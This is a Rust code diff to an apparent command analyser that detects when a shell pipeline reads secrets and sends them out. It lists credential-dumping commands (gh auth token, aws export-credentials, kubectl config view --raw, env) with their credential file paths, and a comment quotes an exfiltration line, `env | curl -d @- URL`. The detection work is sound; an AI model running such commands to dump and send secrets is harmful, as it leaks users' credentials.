@@ -73,6 +73,17 @@ impl Walk<'_> {
     /// Records what `call` reads among its operands `words`.
     pub(super) fn reads(&mut self, call: &ProgramCall, words: &[Word], io: &Io, dirs: &Dirs) {
         let name = call.name.as_str();
+        // A program that prints a secret kept elsewhere (`env`, `gh auth token`) reads where it is
+        // kept: a sender later in the call sends it (`env | curl -d @- URL`).
+        if let Some(kept) = secret_printed(name, &call.args) {
+            let path = match kept.strip_prefix("~/") {
+                Some(rest) => self.ctx.home.map(|h| h.join(rest)),
+                None => Some(PathBuf::from(kept)),
+            };
+            if let Some(path) = path {
+                self.read(&super::lit_word(&path.to_string_lossy()), dirs, false);
+            }
+        }
         if let Role::Interpreter(_) = programs::role(name) {
             self.spelt_in_code(&call.args, io, dirs);
         }
@@ -154,7 +165,8 @@ impl Walk<'_> {
         let mut sent: Vec<String> = Vec::new();
         for read in &self.out.reads[..before.min(self.out.reads.len())] {
             let shown = self.shown(&read.touch.path);
-            if (shown.starts_with("~/.") || shown.contains("/.env")) && !sent.contains(&shown) && sent.len() < MAX_SENT {
+            let secret = shown.starts_with("~/.") || shown.contains("/.env") || shown.ends_with("/environ");
+            if secret && !sent.contains(&shown) && sent.len() < MAX_SENT {
                 sent.push(shown);
             }
         }
@@ -525,3 +537,26 @@ fn raw_of(parts: &[Part], script: usize) -> Option<String> {
         _ => None,
     })
 }
+
+/// Where the secret a program prints is kept, when it prints one: the environment (`env` and
+/// `printenv` with no program to run, `export -p`), a forge's or a cloud's token (`gh auth token`,
+/// `gcloud auth print-access-token`, `aws configure export-credentials`, `az account
+/// get-access-token`), a cluster's raw credentials (`kubectl config view --raw`).
+fn secret_printed(name: &str, args: &[String]) -> Option<&'static str> {
+    let words: Vec<&str> = args.iter().map(String::as_str).filter(|a| !a.starts_with('-')).collect();
+    let has = |option: &str| args.iter().any(|a| a == option);
+    match (name, words.as_slice()) {
+        ("env", w) if w.iter().all(|a| a.contains('=')) => Some(ENVIRONMENT),
+        ("printenv", _) | ("export", []) if name == "printenv" || has("-p") => Some(ENVIRONMENT),
+        ("gh", ["auth", "token", ..]) => Some("~/.config/gh/hosts.yml"),
+        ("gh", ["auth", "status", ..]) if has("-t") || has("--show-token") => Some("~/.config/gh/hosts.yml"),
+        ("gcloud", [.., "print-access-token" | "print-identity-token"]) => Some("~/.config/gcloud/credentials.db"),
+        ("aws", ["configure", "export-credentials" | "get", ..]) | ("aws", ["sts", "get-session-token", ..]) => Some("~/.aws/credentials"),
+        ("az", ["account", "get-access-token", ..]) => Some("~/.azure/msal_token_cache.json"),
+        ("kubectl", ["config", "view", ..]) if has("--raw") => Some("~/.kube/config"),
+        _ => None,
+    }
+}
+
+/// The environment, as the file the kernel shows it in.
+const ENVIRONMENT: &str = "/proc/self/environ";
